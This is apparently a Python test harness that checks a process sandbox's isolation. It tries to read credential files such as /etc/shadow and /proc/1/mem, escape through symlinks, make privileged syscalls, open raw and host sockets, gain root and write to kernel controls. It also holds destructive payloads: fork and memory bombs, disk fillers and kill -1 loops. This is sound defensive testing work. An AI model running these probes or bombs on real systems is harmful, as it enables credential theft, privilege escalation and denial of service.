import ctypes, errno, json, mmap, os, platform, signal, socket, struct, sys, threading, time

libc = ctypes.CDLL(None, use_errno=True)
X86 = platform.machine() == 'x86_64'

def receive():
    header = os.read(3, 4)
    if len(header) < 4:
        os._exit(0)
    return os.read(3, struct.unpack('<I', header)[0]).decode()

def send(value):
    frame = json.dumps(value).encode()
    os.write(3, struct.pack('<I', len(frame)) + frame)

def forks_until_refused():
    children = []
    for _ in range(40):
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            time.sleep(20)
            os._exit(0)
        children.append(pid)
    for pid in children:
        os.kill(pid, signal.SIGKILL)
        os.waitpid(pid, 0)
    return len(children)

def memory_is_bounded():
    pid = os.fork()
    if pid == 0:
        try:
            block = mmap.mmap(-1, 192 << 20, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)
            for at in range(0, 192 << 20, 4096):
                block[at] = 1
        except BaseException:
            os._exit(1)
        os._exit(0)
    return 'bounded' if os.waitpid(pid, 0)[1] != 0 else 'unbounded'

def prove():
    numbers = [name for name in os.listdir('/proc') if name.isdigit()]
    return {'processes': len(numbers), 'pid': os.getpid(), 'forked': forks_until_refused(),
            'memory': memory_is_bounded()}

# --- attacks that try, and tell what worked

def call(number, *arguments):
    ctypes.set_errno(0)
    result = libc.syscall(ctypes.c_long(number), *[ctypes.c_long(it) if isinstance(it, int) else it for it in arguments])
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result

def tried(tries):
    worked = []
    for name, attempt in tries:
        try:
            result = attempt()
            worked.append('%s: %r' % (name, result))
        except (OSError, ValueError, OverflowError, AttributeError):
            pass
    return worked

def reading(path):
    def attempt():
        with open(path, 'rb') as file:
            return file.read(64)
    return path, attempt

def listing(path):
    return path + '/', lambda: os.listdir(path)[:5]

def writing(path, text='1'):
    def attempt():
        fd = os.open(path, os.O_WRONLY)
        os.write(fd, text.encode())
        return 'written'
    return 'write ' + path, attempt

def reads():
    extra = json.loads(os.environ['SECRETS'])
    return tried([reading(it) for it in [
        '/etc/shadow', '/etc/ssh/sshd_config', '/proc/1/environ', '/proc/1/mem', '/proc/1/maps', '/proc/1/root/etc/shadow',
        '/proc/kcore', '/proc/kmsg', '/proc/1/auxv', '/dev/mem', '/dev/kmsg', '/dev/vda', '/dev/sda', '/sys/kernel/notes',
        '/proc/self/root/etc/shadow', '/var/task/../../etc/shadow', '/tmp/../root/.bashrc', '/proc/self/cwd/../../root/.bashrc',
        '/var/lib/dpkg/status', '/home', '/run/utmp'] + extra]
        + [('fd %d' % it, lambda it=it: os.readlink('/proc/1/fd/%d' % it)) for it in range(8)]
        + [listing(it) for it in [ '/proc/1/root', '/proc/1/cwd', '/proc/1/map_files', '/sys', '/home', '/data', '/boot', '/mnt', '/srv', '/dev/shm', '/dev/mqueue']]
        + [listing(it) for it in extra])

def links():
    os.symlink('/proc/1/root', '/tmp/up')
    os.symlink('/../../../..', '/tmp/far')
    os.mkdir('/tmp/dir')
    here = os.open('/', os.O_RDONLY)
    os.chdir('/tmp/dir')
    found = tried([reading('/tmp/up/etc/shadow'), reading('/tmp/far/etc/shadow'), reading('../../../../../etc/shadow'),
                   ('openat', lambda: os.open('../../../etc/shadow', os.O_RDONLY, dir_fd=here)),
                   ('link', lambda: os.link('/etc/passwd', '/tmp/hard')), writing('/etc/passwd'), writing('/usr/bin/env'),
                   writing('/var/pileus/zygote.py'), writing('/var/task/agent.py'), writing('/proc/self/mem', '')])
    os.close(here)
    return [it for it in found if 'self/mem' not in it]

def calls():
    a = ctypes.create_string_buffer(256)
    N = dict(ptrace=101, mount=165, umount2=166, pivot_root=155, chroot=161, unshare=272, setns=308, bpf=321, perf_event_open=298,
             keyctl=250, add_key=248, request_key=249, userfaultfd=323, init_module=175, kexec_load=246, reboot=169, swapon=167,
             settimeofday=164, sethostname=170, iopl=172, ioperm=173, acct=163, process_vm_readv=310, open_by_handle_at=304,
             name_to_handle_at=303, fsopen=430, fsmount=432, open_tree=428, move_mount=429, mount_setattr=442, io_uring_setup=425,
             clone3=435, kcmp=312, fanotify_init=300, quotactl=179, syslog=103, vhangup=153, modify_ldt=154, nfsservctl=180,
             move_pages=279, migrate_pages=256, set_mempolicy=238, pidfd_getfd=438, lookup_dcookie=212, uselib=134, ustat=136,
             sysfs=139, process_madvise=440, clock_settime=227, adjtimex=159, finit_module=313, delete_module=176)
    if not X86:
        return []
    path = ctypes.c_char_p(b'/tmp')
    arguments = dict(ptrace=(16, 1, 0, 0), mount=(path, path, path, 4096, 0), chroot=(path,), unshare=(0x10000000,), setns=(0, 0),
                     perf_event_open=(a, 0, -1, -1, 0), add_key=(ctypes.c_char_p(b'user'), ctypes.c_char_p(b'x'), a, 1, -3),
                     io_uring_setup=(4, a), open_tree=(-100, path, 1), sethostname=(path, 4), keyctl=(0, -3, 1), syslog=(3, a, 10),
                     fsopen=(ctypes.c_char_p(b'tmpfs'), 0), clone3=(a, 88), userfaultfd=(1,), reboot=(0, 0, 0), pivot_root=(path, path))
    return tried([(name, lambda name=name, number=number: call(number, *arguments.get(name, (0, 0, 0, 0, 0)))) for name, number in sorted(N.items())]
        + [('namespace %x' % flag, lambda flag=flag: call(56, flag | 17, 0, 0, 0, 0)) for flag in (0x10000000, 0x20000000, 0x40000000, 0x20000)]
        + [('personality', lambda: call(135, 0x40000))])

def sockets():
    return tried([('raw', lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)), ('packet', lambda: socket.socket(17, 3, 0)),
        ('raw6', lambda: socket.socket(socket.AF_INET6, socket.SOCK_RAW, 58)),
        ('netfilter', lambda: socket.socket(16, 3, 12)), ('uevent', lambda: socket.socket(16, 3, 15)), ('vsock', lambda: socket.socket(40, 1, 0)),
        ('alg', lambda: socket.socket(38, 5, 0)), ('bluetooth', lambda: socket.socket(31, 3, 1)), ('tipc', lambda: socket.socket(30, 1, 0)),
        ('host loopback', lambda: socket.create_connection(('127.0.0.1', int(os.environ['HOST_PORT'])), 1)),
        ('other sandbox', lambda: socket.create_connection(('127.0.0.1', 8123), 1)),
        ('abstract socket', lambda: abstract()), ('outside', lambda: socket.create_connection(('1.1.1.1', 80), 1))])

def abstract():
    s = socket.socket(socket.AF_UNIX)
    s.connect('\0' + os.environ['HOST_SOCKET'])
    return 'connected'

def rights():
    def fifo():
        os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(10))
        return 'real time'
    def suid():
        pid = os.fork()
        if pid == 0:
            os.execv('/usr/bin/su', ['su', '-c', 'true'])
        if os.waitpid(pid, 0)[1] != 0:
            raise OSError()
        return 'su'
    def caps():
        text = [line.split()[1] for line in open('/proc/self/status') if line.startswith('Cap')]
        if all(int(it, 16) == 0 for it in text):
            raise OSError()
        return text
    return tried([('setuid', lambda: os.setuid(0)), ('setgid', lambda: os.setgid(0)), ('setgroups', lambda: os.setgroups([0])),
        ('nice', lambda: os.nice(-5)), ('fifo', fifo), ('su', suid), ('capabilities', caps),
        ('device', lambda: os.mknod('/tmp/mem', 0o20600, os.makedev(1, 1))), ('disk', lambda: os.mknod('/tmp/disk', 0o60600, os.makedev(8, 0))),
        ('chown', lambda: os.chown('/tmp', 0, 0)), ('files', lambda: __import__('resource').setrlimit(7, (100000, 100000))),
        writing('/proc/sys/kernel/core_pattern', '|/bin/sh'), writing('/proc/sysrq-trigger', 'b'), writing('/proc/self/oom_score_adj', '-900'),
        writing('/proc/sys/vm/drop_caches'), writing('/proc/sys/net/ipv4/ip_forward'), writing('/proc/self/uid_map', '0 0 1'), writing('/proc/self/loginuid', '0')])

def signals():
    found = []
    for pid in [int(os.environ['HOST_PROCESS'])] + list(range(3, 300)):
        if pid in (os.getpid(), 1):
            continue
        try:
            os.kill(pid, 0)
            found.append('signal %d' % pid)
        except OSError:
            pass
    for number in (signal.SIGKILL, signal.SIGTERM, signal.SIGSTOP):
        try:
            os.kill(1, number)
        except OSError:
            pass
    return found

def descriptors():
    return ['%s %s' % (fd, os.readlink('/proc/self/fd/' + fd)) for fd in os.listdir('/proc/self/fd')
            if int(fd) > 3 and os.path.exists('/proc/self/fd/' + fd) and '/proc/' not in os.readlink('/proc/self/fd/' + fd)]

# --- attacks that destroy

def fork_bomb():
    while True:
        try:
            os.fork()
        except OSError:
            pass

def memory_bomb():
    kept = []
    while True:
        try:
            block = mmap.mmap(-1, 8 << 20)
            for at in range(0, 8 << 20, 4096):
                block[at] = 1
            kept.append(block)
        except (OSError, MemoryError):
            if os.fork() == 0:
                kept = []

def disk_filler():
    count = 0
    try:
        with open('/tmp/fill', 'wb') as file:
            for _ in range(1000):
                file.write(b'x' * (1 << 20))
                file.flush()
                count += 1
    except OSError as error:
        return ['%d MiB, then %s' % (count, errno.errorcode[error.errno])]

def inode_filler():
    for count in range(100000):
        try:
            os.close(os.open('/tmp/%d' % count, os.O_CREAT | os.O_WRONLY))
        except OSError as error:
            return ['%d files, then %s' % (count, errno.errorcode[error.errno])]

def hoarder():
    kept = []
    try:
        while True:
            kept.extend(os.pipe())
    except OSError as error:
        count = len(kept)
        for fd in kept:
            os.close(fd)
        return ['%d, then %s' % (count, errno.errorcode[error.errno])]

def busy():
    for _ in range(4):
        threading.Thread(target=lambda: [None for _ in iter(int, 1)], daemon=True).start()
    while True:
        pass

def kill_all():
    for _ in range(100):
        try:
            os.kill(-1, signal.SIGKILL)
        except OSError:
            pass
    return ['alive']

def daemon():
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for number in range(1, 32):
                try:
                    signal.signal(number, signal.SIG_IGN)
                except (OSError, ValueError):
                    pass
            while True:
                time.sleep(1)
        os._exit(0)
    os._exit(0)

def flood():
    while True:
        os.write(1, b'x' * 65536)

def forged_frames():
    os.write(3, struct.pack('<I', 0xffffffff) + b'x' * 1000)
    time.sleep(5)

def hinder():
    sys.path.append('/var/pileus')
    import zygote
    def stop():
        mine = [int(it) for it in os.listdir('/proc/self/task')]
        while True:
            for pid in range(2, 120):
                if pid not in mine:
                    try:
                        os.kill(pid, signal.SIGSTOP)
                    except OSError:
                        pass
    threading.Thread(target=stop, daemon=True).start()
    send('hindering')
    zygote.be_template()
    os._exit(0)

TRIES = dict(reads=reads, links=links, calls=calls, sockets=sockets, rights=rights, signals=signals, descriptors=descriptors,
             disk_filler=disk_filler, inode_filler=inode_filler, hoarder=hoarder, kill_all=kill_all)
ENDS = dict(fork_bomb=fork_bomb, memory_bomb=memory_bomb, busy=busy, daemon=daemon, flood=flood, forged_frames=forged_frames,
            hinder=hinder)

if receive() == 'prove':
    send(prove())
    while True:
        name = receive()
        if name in ENDS:
            ENDS[name]()
        send(TRIES[name]())
